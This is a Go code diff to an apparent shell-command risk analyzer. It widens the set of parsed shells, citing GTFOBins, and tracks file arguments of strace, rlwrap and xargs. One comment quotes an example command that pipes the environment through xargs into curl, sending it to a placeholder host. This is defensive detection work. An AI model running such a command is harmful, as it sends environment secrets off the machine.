@@ -10,7 +10,11 @@ import (
 
 // shells are interpreters whose -c argument, stdin or heredoc is shell code we can parse.
 var shells = table[map[string]bool]{build: func() map[string]bool {
-	return map[string]bool{"sh": true, "bash": true, "zsh": true, "dash": true, "ksh": true, "mksh": true, "ash": true, "fish": true}
+	// csh, tcsh, yash, posh, sash and elvish take -c the same way (GTFOBins csh, tcsh, yash,
+	// posh, sash, elvish): code they are given that is not POSIX shell does not parse, and
+	// unparsable code is high, never an unknown command at medium.
+	return map[string]bool{"sh": true, "bash": true, "zsh": true, "dash": true, "ksh": true, "mksh": true, "ash": true, "fish": true,
+		"csh": true, "tcsh": true, "yash": true, "posh": true, "sash": true, "elvish": true}
 }}
 
 // add records a segment with the context it was reached through.
@@ -213,6 +217,7 @@ func (x *extractor) command(seg *Segment, ctx walkCtx) *Segment {
 				}
 			}
 			ctx = inner
+			seg.Redirs = append(seg.Redirs, toolFileRedirs(seg)...) // strace -o FILE, rlwrap -l FILE (toolfiles.go)
 			seg.Args = argv
 			continue
 		case name == "sudo" || name == "doas" || name == "pkexec" || name == "run0":
@@ -615,7 +620,8 @@ func (x *extractor) xargs(seg *Segment, ctx walkCtx) *Segment {
 	if len(rest) == 0 {
 		rest = []string{"echo"}
 	}
-	inner := &Segment{Args: append(append([]string(nil), rest...), input), Text: seg.Text, PipeIn: nil, Parsed: seg.Parsed, Dynamic: seg.Dynamic}
+	inner := &Segment{Args: append(append([]string(nil), rest...), input), Text: seg.Text, PipeIn: nil, Parsed: seg.Parsed, Dynamic: seg.Dynamic,
+		Redirs: toolFileRedirs(seg)} // xargs -a FILE reads FILE (toolfiles.go)
 	// What xargs reads becomes the command's words: the data on its pipe reaches them as a
 	// $(…) would (env | xargs -I{} curl "https://host/?d={}" sends the environment).
 	inner.In, inner.Feeds = seg.In, seg.Feeds
